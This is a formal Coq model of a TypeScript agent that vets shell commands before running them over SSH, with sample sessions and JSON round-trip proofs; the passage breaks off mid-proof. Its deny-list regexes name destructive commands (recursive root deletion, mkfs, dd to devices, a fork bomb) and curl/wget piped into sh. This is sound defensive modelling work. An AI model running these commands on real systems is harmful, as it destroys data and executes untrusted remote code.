(** ** secagent.ts *)

Module SecAgent.

Definition MAX_RETRIES : nat := 3.
Definition RETRY_DELAY_MS : N := 1000.
Definition REQUEST_TIMEOUT_MS : N := 5000.

Definition FALLBACK_MODELS : list jsstring :=
  [str "llama2"; str "llama2-uncensored"; str "mistral"; str "gemma"].

(** The two fields the agent reads; the [ollama] handle is represented by
    the outcomes of the requests made through it. *)
Record secagent := {
  secagentconfig : json;
  availableModels : list jsstring
}.

(** *** The pattern tables *)

Definition word_path : regex :=        (* [\w\/._-] *)
  RClass false [CWord; CChar (chr "/"); CChar (chr "."); CChar (chr "_");
                CChar (chr "-")].

Definition unsafe_patterns : list regex :=
  [ (* /rm\s+(-[\w]+\s+)*\// *)
    cat [lit "rm"; RPlus space;
         RStar (cat [ch "-"; RPlus (RClass false [CWord]); RPlus space]);
         ch "/"];
    (* /chmod\s+777\b/ *)
    cat [lit "chmod"; RPlus space; lit "777"; RWordB];
    (* /mkfs/ *)
    lit "mkfs";
    (* /dd\s+if=.+of=\/dev/ *)
    cat [lit "dd"; RPlus space; lit "if="; RPlus RAny; lit "of=/dev"];
    (* /:(){:|:&};:/  two alternatives; the group is empty and the braces
       are pattern characters *)
    RAlt (cat [ch ":"; REmpty; ch "{"; ch ":"]) (lit ":&};:");
    (* /wget.+\|\s*sh/ *)
    cat [lit "wget"; RPlus RAny; ch "|"; RStar space; lit "sh"];
    (* /curl.+\|\s*sh/ *)
    cat [lit "curl"; RPlus RAny; ch "|"; RStar space; lit "sh"];
    (* /sudo\s+rm\s+-rf\s+\/\*/ *)
    cat [lit "sudo"; RPlus space; lit "rm"; RPlus space; lit "-rf";
         RPlus space; lit "/*"] ].

Definition safe_commands : list regex :=
  [ (* /^ls(\s+-[a-zA-Z]+)*$/ *)
    cat [RBol; lit "ls";
         RStar (cat [RPlus space; ch "-"; RPlus letters]); REol];
    (* /^pwd$/ *)
    cat [RBol; lit "pwd"; REol];
    (* /^echo\s+[^|>;]*$/ *)
    cat [RBol; lit "echo"; RPlus space;
         RStar (RClass true [CChar (chr "|"); CChar (chr ">");
                             CChar (chr ";")]);
         REol];
    (* /^cd\s+[\w\/._-]+$/ *)
    cat [RBol; lit "cd"; RPlus space; RPlus word_path; REol];
    (* /^cat\s+[\w\/._-]+$/ *)
    cat [RBol; lit "cat"; RPlus space; RPlus word_path; REol];
    (* /^mkdir\s+-?p?\s+[\w\/._-]+$/ *)
    cat [RBol; lit "mkdir"; RPlus space; ROpt (ch "-"); ROpt (ch "p");
         RPlus space; RPlus word_path; REol];
    (* /^cp\s+-?r?\s+[\w\/._-]+\s+[\w\/._-]+$/ *)
    cat [RBol; lit "cp"; RPlus space; ROpt (ch "-"); ROpt (ch "r");
         RPlus space; RPlus word_path; RPlus space; RPlus word_path; REol];
    (* /^df\s+-[a-zA-Z]+$/ *)
    cat [RBol; lit "df"; RPlus space; ch "-"; RPlus letters; REol];
    (* /^du\s+-[a-zA-Z]+$/ *)
    cat [RBol; lit "du"; RPlus space; ch "-"; RPlus letters; REol];
    (* /^ps\s+[auxef]+$/ *)
    cat [RBol; lit "ps"; RPlus space;
         RPlus (RClass false [CChar (chr "a"); CChar (chr "u");
                              CChar (chr "x"); CChar (chr "e");
                              CChar (chr "f")]);
         REol];
    (* /^grep\s+-?[a-zA-Z]*\s+Q[^Q]+Q\s+[\w\/._-]+$/ with Q the quotation
       mark, code unit 34 *)
    cat [RBol; lit "grep"; RPlus space; ROpt (ch "-"); RStar letters;
         RPlus space; RChar 34; RPlus (RClass true [CChar 34]); RChar 34;
         RPlus space; RPlus word_path; REol];
    (* /^ping\s+-c\s+\d+\s+[\w\.-]+$/ *)
    cat [RBol; lit "ping"; RPlus space; lit "-c"; RPlus space; RPlus digit;
         RPlus space;
         RPlus (RClass false [CWord; CChar (chr "."); CChar (chr "-")]);
         REol];
    (* /^uname\s+-[a-zA-Z]+$/ *)
    cat [RBol; lit "uname"; RPlus space; ch "-"; RPlus letters; REol];
    (* /^whoami$/ *)
    cat [RBol; lit "whoami"; REol];
    (* /^date$/ *)
    cat [RBol; lit "date"; REol];
    (* /^apt\s+(update|list|search\s+[\w-]+)$/ *)
    cat [RBol; lit "apt"; RPlus space;
         RAlt (lit "update")
              (RAlt (lit "list")
                    (cat [lit "search"; RPlus space;
                          RPlus (RClass false [CWord; CChar (chr "-")])]));
         REol] ].

Definition isObviouslyUnsafe (command : jsstring) : bool :=
  existsb (fun pattern => test pattern command) unsafe_patterns.

Definition isStaticallySafe (command : jsstring) : bool :=
  existsb (fun pattern => test pattern command) safe_commands.

(** *** Construction *)

Definition default_config : json :=
  JObj [(str "ENABLE_SECAGENT", JBool false);
        (str "SECURITY_POLICY", JStr (str "Only 'ls' command is safe"))].

(** [new_Ollama] is what [new Ollama({host})] throws, if anything.  The
    call of [initializeAsync] returns a promise and cannot throw; it is not
    reached when an earlier statement of the [try] block throws. *)
Definition constructor (configfilepath ollamaHost : jsstring)
    (fs : gmap jsstring jsstring) (new_Ollama : option exn)
    : completion secagent :=
  let loaded :=
    try_catch
      (text ← readFileSync configfilepath fs;
       config ← JSON_parse text;
       match new_Ollama with
       | Some e => Throw e
       | None => Normal config
       end)
      (fun error => Normal default_config) in
  config ← loaded;
  Normal {| secagentconfig := config; availableModels := [] |}.

(** The settlement of [initializeAsync]: the listed model names, or none
    when listing fails. *)
Definition initializeAsync (listed : option (list jsstring)) (this : secagent)
    : secagent :=
  {| secagentconfig := secagentconfig this;
     availableModels := default [] listed |}.

Definition getAvailableModel (this : secagent) : jsstring :=
  default (str "llama2")
    (find (fun model => bool_decide (model ∈ availableModels this))
          FALLBACK_MODELS).

(** *** Evaluation

    The checks the agent performs are recorded, in order, next to the
    completion of the call (an [async] function: [Throw] is a rejected
    promise).  Log writes are left out; the logging functions catch their
    own failures. *)

Inductive event :=
| DenyCheck (command : jsstring)
| AllowCheck (command : jsstring)
| Generate (attempt : nat) (model : jsstring)
| Delay (ms : N).

Definition traced (A : Type) : Type := (list event * completion A)%type.

#[global] Instance traced_ret : MRet traced := fun A a => ([], Normal a).
#[global] Instance traced_bind : MBind traced := fun A B k m =>
  match m with
  | (t, Normal a) => let '(t', r) := k a in (t ++ t', r)
  | (t, Throw e) => (t, Throw e)
  | (t, Unmodelled) => (t, Unmodelled)
  end.

Definition tell (e : event) : traced unit := ([e], Normal ()).
Definition lift {A} (c : completion A) : traced A := ([], c).

Definition catch {A} (m : traced A) (handler : exn -> traced A) : traced A :=
  match m with
  | (t, Throw e) => let '(t', r) := handler e in (t ++ t', r)
  | _ => m
  end.

(** What [await Promise.race([requestPromise, timeoutPromise])] yields. *)
Inductive race_outcome :=
| Fulfilled (response : option jsstring)
    (* the request settled first; the [response] field of its value, when
       that is a string *)
| Rejected.
    (* the timeout fired first, or the request failed *)

(** An attempt fails when the race rejects or its value has no usable
    [response] string. *)
Definition failed (o : race_outcome) : Prop :=
  match o with
  | Fulfilled (Some _) => False
  | _ => True
  end.

(** [x === true] and [x !== true] on the result of a property read. *)
Definition is_true (x : option json) : bool :=
  match x with
  | Some (JBool true) => true
  | _ => false
  end.

Section Evaluate.

(** [String.prototype.toUpperCase], and the inference back end: the outcome
    of the race at a given attempt for a model, policy value and command. *)
Variable toUpperCase : jsstring -> jsstring.
Variable race : nat -> jsstring -> option json -> jsstring -> race_outcome.

Definition static_check (command : jsstring) : traced bool :=
  _ ← tell (AllowCheck command); mret (isStaticallySafe command).

(** Whether the prompt, a template literal, can hold the policy value:
    [undefined] has a text; another value is converted to a string. *)
Definition prompt_holds (policy : option json) : bool :=
  match policy with
  | Some value => negb (to_string_throws value)
  | None => true
  end.

(** The body of the [try] block of one attempt.  The prompt is built before
    the request is made: when the conversion of the policy value throws,
    there is no request. *)
Definition attempt_body (this : secagent) (command : jsstring)
    (attempt : nat) : traced bool :=
  let model := getAvailableModel this in
  policy ← lift (get (secagentconfig this) (str "SECURITY_POLICY"));
  if negb (prompt_holds policy) then lift (Throw TypeError) else
  _ ← tell (Generate attempt model);
  match race attempt model policy command with
  | Rejected => lift (Throw RequestError)
  | Fulfilled None => lift (Throw TypeError)
  | Fulfilled (Some response) =>
      mret (negb (includes (toUpperCase (trim response)) (str "UNSAFE")))
  end.

(** [for (attempt = 1; attempt <= MAX_RETRIES; attempt++)], followed by the
    statements after the loop.  An attempt that completes returns from the
    function; one that throws is caught, waits unless it was the last, and
    lets the loop go on. *)
Definition retry_loop (this : secagent) (command : jsstring) : traced bool :=
  foldr
    (fun attempt rest =>
       catch (attempt_body this command attempt)
         (fun error =>
            _ ← (if (attempt <? MAX_RETRIES)%nat
                 then tell (Delay RETRY_DELAY_MS) else mret ());
            rest))
    (static_check command)
    (seq 1 MAX_RETRIES).

Definition checkCommandSafety (this : secagent) (command : jsstring)
    : traced bool :=
  enabled ← lift (get (secagentconfig this) (str "ENABLE_SECAGENT"));
  if negb (is_true enabled) then mret true else
  _ ← tell (DenyCheck command);
  if isObviouslyUnsafe command then mret false else
  static_only ← lift (get (secagentconfig this) (str "USE_STATIC_CHECKS_ONLY"));
  if is_true static_only then static_check command else
  use_llm ← lift (get (secagentconfig this) (str "USE_LOCAL_LLM"));
  if negb (is_true use_llm) then static_check command else
  if (length (availableModels this) =? 0)%nat then static_check command else
  retry_loop this command.

End Evaluate.

End SecAgent.

(** ** Sample configurations, back ends and session states *)

Module Samples.
Import Session SecAgent.

(** [toUpperCase] on text whose letters are ASCII. *)
Definition upper_ascii (s : jsstring) : jsstring :=
  map (fun c => if in_range 97 122 c then c - 32 else c) s.

(** An inference back end that is down: every request is rejected. *)
Definition race_down (attempt : nat) (model : jsstring)
    (policy : option json) (command : jsstring) : race_outcome :=
  Rejected.

(** A back end that answers the first two attempts with garbage or not at
    all, and the third with the given text. *)
Definition race_third (answer : jsstring) (attempt : nat) (model : jsstring)
    (policy : option json) (command : jsstring) : race_outcome :=
  match attempt with
  | 1%nat => Rejected
  | 2%nat => Fulfilled None
  | _ => Fulfilled (Some answer)
  end.

Definition config (enabled static_only use_llm : bool) : json :=
  JObj [(str "ENABLE_SECAGENT", JBool enabled);
        (str "SECURITY_POLICY", JStr (str "only listing is safe"));
        (str "USE_LOCAL_LLM", JBool use_llm);
        (str "USE_STATIC_CHECKS_ONLY", JBool static_only)].

Definition agent (enabled static_only use_llm : bool)
    (models : list jsstring) : secagent :=
  {| secagentconfig := config enabled static_only use_llm;
     availableModels := models |}.

(** A configuration whose policy is an object with a [toString] property
    of its own, as the file [{"ENABLE_SECAGENT": true, "SECURITY_POLICY":
    {"toString": 1}, "USE_LOCAL_LLM": true}] gives. *)
Definition opaque_policy_agent : secagent :=
  {| secagentconfig :=
       JObj [(str "ENABLE_SECAGENT", JBool true);
             (str "SECURITY_POLICY", JObj [(str "toString", JNum 1)]);
             (str "USE_LOCAL_LLM", JBool true)];
     availableModels := [str "mistral"] |}.

Definition pending (cmd instant : string) : CommandInfo :=
  {| command := str cmd; executedAt := str instant; result := None |}.

Definition exit_with (code : Z) (output : string) : CommandResult :=
  {| exitCode := code; signal := []; stdout := str output; stderr := [];
     completedAt := str "2025-01-01T00:00:09.000Z" |}.

Definition completed (cmd instant : string) (r : CommandResult)
    : CommandInfo :=
  {| command := str cmd; executedAt := str instant; result := Some r |}.

Definition connection : ConnectionInfo :=
  {| host := str "build.example.org"; port := 22; username := str "deploy";
     connectedAt := str "2025-01-01T00:00:00.000Z" |}.

(** Two dispatches of the same command, neither observed complete. *)
Definition two_ls : sessionManager :=
  {| this_connectionInfo := Some connection;
     this_commands := [pending "ls" "2025-01-01T00:00:01.000Z";
                       pending "ls" "2025-01-01T00:00:02.000Z"] |}.

Definition completed_ls : sessionManager :=
  {| this_connectionInfo := Some connection;
     this_commands :=
       [completed "ls" "2025-01-01T00:00:01.000Z" (exit_with 0 "a.txt")] |}.

Definition empty_checkpoint : SessionCheckpoint :=
  {| connectionInfo := None; commands := [] |}.

Definition checkpoint : SessionCheckpoint :=
  {| connectionInfo := Some connection;
     commands := [completed "ls" "2025-01-01T00:00:01.000Z" (exit_with 0 "a.txt");
                  pending "pwd" "2025-01-01T00:00:03.000Z"] |}.

End Samples.

(** ** What the record of an evaluation shows *)

Module Trace.
Import SecAgent.

(** The classifier requests made, each with its attempt number and model. *)
Definition requests (t : list event) : list (nat * jsstring) :=
  omap (fun e => match e with
                 | Generate attempt model => Some (attempt, model)
                 | _ => None
                 end) t.

(** The pauses taken, in milliseconds. *)
Definition waits (t : list event) : list N :=
  omap (fun e => match e with Delay ms => Some ms | _ => None end) t.

(** The commands matched against the allow patterns. *)
Definition allow_checks (t : list event) : list jsstring :=
  omap (fun e => match e with AllowCheck c => Some c | _ => None end) t.

(** The requests and the pauses of a record, in the order they were made. *)
Definition classifier_events (t : list event) : list event :=
  List.filter (fun e => match e with
                        | Generate _ _ | Delay _ => true
                        | _ => false
                        end) t.

(** [count] requests to [model], numbered from [first], with one pause of
    [RETRY_DELAY_MS] between each two in a row: none before the first and
    none after the last. *)
Fixpoint schedule (model : jsstring) (first count : nat) : list event :=
  match count with
  | O => []
  | S count' =>
      Generate first model
      :: match count' with
         | O => []
         | S _ => Delay RETRY_DELAY_MS :: schedule model (S first) count'
         end
  end.

End Trace.

(** ** What a history and a sequence of operations show *)

Module History.
Import Session.

(** The fields of a record that are fixed at dispatch. *)
Definition stamp (c : CommandInfo) : jsstring * jsstring :=
  (command c, executedAt c).

(** The dispatches among a sequence of operations, in order. *)
Definition dispatched (ops : list operation) : list (jsstring * jsstring) :=
  omap (fun op => match op with
                  | AddCommand cmd now => Some (cmd, now)
                  | _ => None
                  end) ops.

End History.

(** ** The session manager on values read from a file

    [loadCheckpoint] casts whatever [JSON.parse] returns to
    [SessionCheckpoint]; [restoreFromCheckpoint] then runs on that value.
    Here its fields hold JSON values, [None] standing for [undefined]. *)

Module Untyped.

Record sessionManager := {
  this_connectionInfo : option json;
  this_commands : list json
}.

Definition constructor : sessionManager :=
  {| this_connectionInfo := None; this_commands := [] |}.

(** ToBoolean on a JSON value. *)
Definition truthy (v : json) : bool :=
  match v with
  | JNull => false
  | JBool b => b
  | JNum n => negb (n =? 0)%Z
  | JStr s => negb (bool_decide (s = []))
  | JArr _ | JObj _ => true
  end.

(** The first property read throws when the checkpoint is [null], before
    anything is assigned; the second guard holds of arrays only. *)
Definition restoreFromCheckpoint (checkpoint : json) (this : sessionManager)
    : completion sessionManager :=
  info ← get checkpoint (str "connectionInfo");
  let this1 :=
    match info with
    | Some v =>
        if truthy v
        then {| this_connectionInfo := Some v;
                this_commands := this_commands this |}
        else this
    | None => this
    end in
  cmds ← get checkpoint (str "commands");
  Normal match cmds with
         | Some (JArr items) =>
             {| this_connectionInfo := this_connectionInfo this1;
                this_commands := items |}
         | _ => this1
         end.

(** The values a typed manager holds. *)
Definition of_session (this : Session.sessionManager) : sessionManager :=
  {| this_connectionInfo :=
       Session.connection_to_json <$> Session.this_connectionInfo this;
     this_commands :=
       map Session.command_to_json (Session.this_commands this) |}.

End Untyped.

(** ** index.ts *)

Module Index.
Import Session SecAgent.

(** What the [run-safe-command] handler does with a command. *)
Inductive disposition :=
| NotConnected     (* answered: no active SSH connection *)
| Refused          (* answered: flagged as potentially unsafe *)
| HandedOver (command : jsstring).   (* [conn.exec(command, ...)] is called *)

(** Where a call of the handler leaves things. *)
Record handled := {
  answer : completion disposition;
      (* a [Throw] is the rejection "An unexpected error occurred" *)
  session_after : sessionManager;
  files_after : gmap jsstring jsstring;
  checks : list event
}.

Section Handlers.

(** The two files, [../session_checkpoint.json] and
    [../command_history.json] beside the module. *)
Variable CHECKPOINT_PATH COMMAND_HISTORY_PATH : jsstring.
Variable toUpperCase : jsstring -> jsstring.
Variable race : nat -> jsstring -> option json -> jsstring -> race_outcome.

(** The statements that load the previous session when the module is
    evaluated: whatever is thrown is logged and the manager stays as
    constructed. *)
Definition startup (fs : gmap jsstring jsstring)
    : completion Untyped.sessionManager :=
  let session := Untyped.constructor in
  try_catch
    (if bool_decide (is_Some (fs !! CHECKPOINT_PATH)) then
       checkpoint ← loadCheckpoint CHECKPOINT_PATH fs;
       Untyped.restoreFromCheckpoint checkpoint session
     else Normal session)
    (fun error => Normal session).

(** [while (retries > 0)]: an evaluation that completes leaves the loop
    with its verdict; one that throws costs a retry, is rethrown when none
    is left, and is otherwise repeated after a second.  The evaluation
    throws only before it consults the back end, so each repetition is the
    same evaluation. *)
Fixpoint safety_loop (retries : nat) (check : traced bool) (isSafe : bool)
    : traced bool :=
  match retries with
  | O => mret isSafe
  | S retries' =>
      catch check
        (fun error =>
           if (retries' =? 0)%nat then lift (Throw error)
           else _ ← tell (Delay 1000); safety_loop retries' check isSafe)
  end.

(** The write of the command history: not awaited, a failure is logged. *)
Definition save_command_history (session : sessionManager) (written : bool)
    (fs : gmap jsstring jsstring) : gmap jsstring jsstring :=
  (writeFile COMMAND_HISTORY_PATH
     (JSON_stringify (JArr (map command_to_json (getCommandHistory session)))
        2)
     written fs).2.

(** The handler of [run-safe-command] up to the point where the command is
    handed to the connection or the call is answered without it. *)
Definition run_safe_command (secAgent : secagent) (isConnected : bool)
    (command now : jsstring) (history_written : bool)
    (session : sessionManager) (fs : gmap jsstring jsstring) : handled :=
  if negb isConnected then
    {| answer := Normal NotConnected; session_after := session;
       files_after := fs; checks := [] |}
  else
    let session1 := addCommand command now session in
    let fs1 := save_command_history session1 history_written fs in
    let '(t, r) :=
      safety_loop 3 (checkCommandSafety toUpperCase race secAgent command)
        false in
    {| answer :=
         isSafe ← r;
         Normal (if isSafe : bool then HandedOver command else Refused);
       session_after := session1; files_after := fs1; checks := t |}.

End Handlers.

End Index.

(** ** logger.ts *)

Module Logger.

Section Sanitize.

(** [String.prototype.toLowerCase]. *)
Variable toLowerCase : jsstring -> jsstring.

Definition mask : json := JStr (str "********").

(** The test [sanitizeData] makes on a property key. *)
Definition sensitive (key : jsstring) : bool :=
  includes (toLowerCase key) (str "password")
  || includes (toLowerCase key) (str "token")
  || includes (toLowerCase key) (str "secret")
  || includes (toLowerCase key) (str "key").

(** [result[key] = value] on the object under construction, an ordinary
    assignment: the key [__proto__] reaches the setter inherited from
    [Object.prototype] and creates no property of the object; any other
    key is defined on it. *)
Definition assign (key : jsstring) (value : json)
    (result : list (jsstring * json)) : list (jsstring * json) :=
  if bool_decide (key = str "__proto__") then result
  else obj_set key value result.

(** The key under which [for ... in] presents the element at index [i]. *)
Definition index_key (i : nat) : jsstring := number_to_string (Z.of_nat i).

(** [for (const key in data)] on an array: the elements in index order,
    each with its index. *)
Definition each_element (f : nat -> json -> json)
    : nat -> list json -> list json :=
  fix each (i : nat) (items : list json) : list json :=
    match items with
    | [] => []
    | v :: rest => f i v :: each (S i) rest
    end.

(** [sanitizeData] on a JSON value.  A falsy value is returned at once and
    a truthy value that is not an object at the end, so every primitive is
    returned as it is.  An array or an object is rebuilt key by key, in
    enumeration order. *)
Fixpoint sanitizeData (data : json) : json :=
  match data with
  | JArr items =>
      JArr (each_element
              (fun i v =>
                 if sensitive (index_key i) then mask else sanitizeData v)
              O items)
  | JObj members =>
      JObj (foldl (fun result '(key, v) =>
                     assign key
                       (if sensitive key then mask else sanitizeData v)
                       result)
                  [] members)
  | _ => data
  end.

(** The mask itself. *)
Definition is_mask (v : json) : bool :=
  match v with
  | JStr s => bool_decide (s = str "********")
  | _ => false
  end.

(** A value in which, at every depth, nothing stands under a sensitive key
    but the mask. *)
Fixpoint masked (v : json) : bool :=
  match v with
  | JArr items => forallb masked items
  | JObj members =>
      forallb (fun '(k, m) => if sensitive k then is_mask m else masked m)
              members
  | _ => true
  end.

End Sanitize.

End Logger.

(** ** Further sample values *)

Module Examples.
Import Session SecAgent.

(** [toLowerCase] on text whose letters are ASCII. *)
Definition lower_ascii (s : jsstring) : jsstring :=
  map (fun c => if in_range 65 90 c then c + 32 else c) s.

(** A configuration that sets the one flag, to any value. *)
Definition flag_only (flag : json) : secagent :=
  {| secagentconfig := JObj [(str "ENABLE_SECAGENT", flag)];
     availableModels := [str "mistral"] |}.

(** Connection details with a password, a nested key and an array. *)
Definition credentials : json :=
  JObj [(str "host", JStr (str "build.example.org"));
        (str "port", JNum 22);
        (str "password", JStr (str "hunter2"));
        (str "options",
         JObj [(str "apiKey", JStr (str "k-123")); (str "retries", JNum 3)]);
        (str "tags", JArr [JStr (str "prod"); JNull])].

End Examples.

(** ** Proof automation *)

Ltac reassoc := repeat (rewrite <- ?app_assoc; cbn [app]).

(** * Verification *)

Import Session SecAgent.

(** * [JSON.parse] inverts [JSON.stringify] *)

Section JsonRoundTrip.

Implicit Types (s rest gap indent : jsstring) (c : code_unit) (v : json).

(** ** White space *)

Lemma skip_ws_app ws s :
  forallb is_json_ws ws = true -> skip_ws (ws ++ s) = skip_ws s.
Proof.
  induction ws as [|c ws IH]; cbn; [done|].
  intros [Hc Hws]%andb_true_iff. rewrite Hc. auto.
Qed.

Lemma skip_ws_cons c s : is_json_ws c = false -> skip_ws (c :: s) = c :: s.
Proof. intros Hc. cbn. by rewrite Hc. Qed.

(** ** Numbers *)

Lemma read_digits_digits u rest :
  head_is_digit rest = false ->
  read_digits (digits u ++ rest) = (u, rest).
Proof.
  intros Hrest.
  induction u; cbn; rewrite ?IHu; try done.
  destruct rest as [|c rest]; [done|]. cbn in *.
  unfold digit_of.
  destruct (c =? 48) eqn:H0; [by apply N.eqb_eq in H0 as ->|].
  destruct (c =? 49) eqn:H1; [by apply N.eqb_eq in H1 as ->|].
  destruct (c =? 50) eqn:H2; [by apply N.eqb_eq in H2 as ->|].
  destruct (c =? 51) eqn:H3; [by apply N.eqb_eq in H3 as ->|].
  destruct (c =? 52) eqn:H4; [by apply N.eqb_eq in H4 as ->|].
  destruct (c =? 53) eqn:H5; [by apply N.eqb_eq in H5 as ->|].
  destruct (c =? 54) eqn:H6; [by apply N.eqb_eq in H6 as ->|].
  destruct (c =? 55) eqn:H7; [by apply N.eqb_eq in H7 as ->|].
  destruct (c =? 56) eqn:H8; [by apply N.eqb_eq in H8 as ->|].
  destruct (c =? 57) eqn:H9; [by apply N.eqb_eq in H9 as ->|].
  done.
Qed.

Lemma digits_to_uint_head p :
  exists c tl, digits (Pos.to_uint p) = c :: tl
               /\ is_digit c = true /\ (c =? 48) = false.
Proof.
  pose proof (DecimalPos.Unsigned.to_uint_nonnil p) as Hnil.
  pose proof (DecimalPos.Unsigned.to_of (Pos.to_uint p)) as Hnorm.
  rewrite (DecimalPos.Unsigned.of_to p) in Hnorm. cbn in Hnorm.
  destruct (Pos.to_uint p) as [|u|u|u|u|u|u|u|u|u|u] eqn:Hu;
    [by destruct Hnil | |
     cbn [digits]; eexists _, _;
     (split; [reflexivity | split; reflexivity]) ..].
  exfalso. rewrite DecimalFacts.unorm_D0 in Hnorm.
  pose proof (DecimalFacts.nb_digits_unorm u) as Hlen.
  destruct u as [|u|u|u|u|u|u|u|u|u|u].
  { cbn in Hnorm.
    apply (DecimalPos.Unsigned.to_uint_nonzero p). by rewrite Hu. }
  all: rewrite <- Hnorm in Hlen; cbn in Hlen;
    specialize (Hlen ltac:(done)); lia.
Qed.

Lemma is_safe_integer_spec n :
  is_safe_integer n = true <->
  (- max_safe_integer <= n <= max_safe_integer)%Z.
Proof. unfold is_safe_integer. rewrite andb_true_iff, !Z.leb_le. tauto. Qed.

Lemma no_fraction_or_exponent rest :
  fraction_or_exponent rest = false ->
  fraction rest = Normal (false, rest) /\ exponent rest = Normal (false, rest).
Proof.
  destruct rest as [|c rest]; [done|]. cbn.
  intros [[H46 H101]%orb_false_iff H69]%orb_false_iff.
  by rewrite H46, H101, H69.
Qed.

Lemma parse_number_to_string n rest :
  is_safe_integer n = true -> delimited rest = true ->
  parse_number (number_to_string n ++ rest) = Normal (Some (JNum n), rest).
Proof.
  intros Hsafe [Hdigit Hfrac]%andb_true_iff.
  apply negb_true_iff in Hdigit, Hfrac.
  destruct (no_fraction_or_exponent rest Hfrac) as [Hf He].
  destruct n as [|p|p]; unfold parse_number, number_to_string.
  - cbn -[fraction exponent]. rewrite Hf. cbn -[exponent]. by rewrite He.
  - destruct (digits_to_uint_head p) as (c & tl & Hd & Hc & Hc0).
    assert ((c =? 45) = false) as Hminus.
    { unfold is_digit, in_range in Hc. apply N.eqb_neq. intros ->. done. }
    rewrite Hd. cbn [app]. rewrite Hminus, Hc, Hc0. cbn [negb].
    change (c :: tl ++ rest) with ((c :: tl) ++ rest).
    rewrite <- Hd, (read_digits_digits _ _ Hdigit).
    rewrite Hf. cbn [mbind completion_bind bind]. rewrite He.
    cbn [mbind completion_bind bind orb andb].
    unfold N.of_uint. rewrite (DecimalPos.Unsigned.of_to p).
    cbn [Z.of_N].
    by rewrite Hsafe.
  - destruct (digits_to_uint_head p) as (c & tl & Hd & Hc & Hc0).
    cbn [app N.eqb Pos.eqb]. rewrite Hd. cbn [app]. rewrite Hc, Hc0. cbn [negb].
    change (c :: tl ++ rest) with ((c :: tl) ++ rest).
    rewrite <- Hd, (read_digits_digits _ _ Hdigit).
    rewrite Hf. cbn [mbind completion_bind bind]. rewrite He.
    cbn [mbind completion_bind bind orb andb].
    unfold N.of_uint. rewrite (DecimalPos.Unsigned.of_to p).
    cbn [Z.of_N Z.eqb andb orb].
    assert (is_safe_integer (Z.pos p) = true) as ->; [|done].
    apply is_safe_integer_spec. apply is_safe_integer_spec in Hsafe.
    unfold max_safe_integer in *. lia.
Qed.

(** ** Strings *)

Lemma hex_value_digit d : d < 16 -> hex_value (hex_digit d) = Some d.
Proof.
  intros Hd. destruct d as [|p]; [done|].
  do 4 (destruct p as [p|p|]; try done); lia.
Qed.

Lemma hex4_value_escape c :
  c < 65536 ->
  hex4_value (hex_digit (c / 4096 mod 16)) (hex_digit (c / 256 mod 16))
             (hex_digit (c / 16 mod 16)) (hex_digit (c mod 16)) = Some c.
Proof.
  intros Hc. unfold hex4_value.
  rewrite !hex_value_digit by (apply N.mod_lt; done).
  cbn [mbind option_bind]. f_equal.
  assert (c / 4096 = c / 16 / 16 / 16) as -> by (by rewrite !N.Div0.div_div).
  assert (c / 256 = c / 16 / 16) as -> by (by rewrite !N.Div0.div_div).
  pose proof (N.div_mod c 16 ltac:(done)) as E1.
  pose proof (N.div_mod (c / 16) 16 ltac:(done)) as E2.
  pose proof (N.div_mod (c / 16 / 16) 16 ltac:(done)) as E3.
  assert (c / 16 / 16 / 16 < 16) as Hsmall.
  { repeat (apply N.Div0.div_lt_upper_bound). done. }
  rewrite (N.mod_small _ _ Hsmall).
  generalize dependent (c mod 16). generalize dependent (c / 16 mod 16).
  generalize dependent (c / 16 / 16 mod 16).
  generalize dependent (c / 16 / 16 / 16).
  generalize dependent (c / 16 / 16). generalize dependent (c / 16).
  intros. lia.
Qed.

Lemma parse_chars_literal c s :
  (c =? 34) = false -> (c =? 92) = false -> (c <? 32) = false ->
  parse_chars (c :: s) = cons_unit c (parse_chars s).
Proof. intros H1 H2 H3. cbn. by rewrite H1, H2, H3. Qed.

Lemma parse_chars_escape c s :
  c < 65536 ->
  parse_chars (unicode_escape c ++ s) = cons_unit c (parse_chars s).
Proof.
  intros Hc. unfold unicode_escape. cbn [app parse_chars N.eqb Pos.eqb].
  by rewrite (hex4_value_escape c Hc).
Qed.

Lemma parse_chars_quote_unit c s :
  is_lead_surrogate c = false ->
  parse_chars (quote_unit c ++ s) = cons_unit c (parse_chars s).
Proof.
  intros Hlead. unfold quote_unit.
  destruct (c =? 8) eqn:H8; [by apply N.eqb_eq in H8 as ->|].
  destruct (c =? 9) eqn:H9; [by apply N.eqb_eq in H9 as ->|].
  destruct (c =? 10) eqn:H10; [by apply N.eqb_eq in H10 as ->|].
  destruct (c =? 12) eqn:H12; [by apply N.eqb_eq in H12 as ->|].
  destruct (c =? 13) eqn:H13; [by apply N.eqb_eq in H13 as ->|].
  destruct (c =? 34) eqn:H34; [by apply N.eqb_eq in H34 as ->|].
  destruct (c =? 92) eqn:H92; [by apply N.eqb_eq in H92 as ->|].
  rewrite Hlead. cbn [orb].
  destruct (c <? 32) eqn:Hlow; cbn [orb].
  { apply parse_chars_escape. apply N.ltb_lt in Hlow. lia. }
  destruct (is_trail_surrogate c) eqn:Htrail.
  { apply parse_chars_escape.
    apply andb_true_iff in Htrail as [_ Hhi%N.leb_le]. lia. }
  by apply parse_chars_literal.
Qed.

Lemma surrogate_is_literal c :
  55296 <= c ->
  (c =? 34) = false /\ (c =? 92) = false /\ (c <? 32) = false.
Proof.
  intros Hc. split_and!; [apply N.eqb_neq; lia..|apply N.ltb_ge; lia].
Qed.

Lemma parse_chars_quote_chars s rest :
  parse_chars (quote_chars s ++ 34 :: rest) = Normal (s, rest).
Proof.
  remember (length s) as n eqn:Hn.
  revert s Hn. induction (lt_wf n) as [n _ IH]. intros s ->.
  destruct s as [|c s1]; [done|].
  cbn [quote_chars].
  destruct (is_lead_surrogate c) eqn:Hlead.
  - apply andb_true_iff in Hlead as [Hlo%N.leb_le Hhi%N.leb_le].
    destruct (surrogate_is_literal c Hlo) as (Hc1 & Hc2 & Hc3).
    destruct s1 as [|d s2].
    + rewrite parse_chars_escape by lia. done.
    + destruct (is_trail_surrogate d) eqn:Htrail.
      * apply andb_true_iff in Htrail as [Hdlo%N.leb_le _].
        destruct (surrogate_is_literal d) as (Hd1 & Hd2 & Hd3); [lia|].
        cbn [app].
        rewrite (parse_chars_literal c _ Hc1 Hc2 Hc3).
        rewrite (parse_chars_literal d _ Hd1 Hd2 Hd3).
        rewrite (IH (length s2)); [done|cbn; lia|done].
      * rewrite <- app_assoc, parse_chars_escape by lia.
        rewrite (IH (length (d :: s2))); [done|cbn; lia|done].
  - rewrite <- app_assoc, (parse_chars_quote_unit c _ Hlead).
